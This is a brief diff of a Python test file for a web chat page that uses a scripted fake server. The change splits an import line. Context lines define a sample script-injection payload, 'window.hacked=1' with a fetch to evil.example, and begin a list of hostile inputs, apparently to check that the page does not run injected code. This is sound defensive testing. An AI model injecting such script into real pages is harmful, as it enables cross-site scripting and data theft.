@@ -3,7 +3,8 @@ page does not freeze. A scripted server says what no model would."""
 
 import json
 
-from web_fake_server import Fake, approval, call, text, thought
+from web_fake_answer import approval, call, text, thought
+from web_fake_server import Fake
 
 BAD = "window.hacked=1;fetch('http://evil.example/')"
 HOSTILE = [
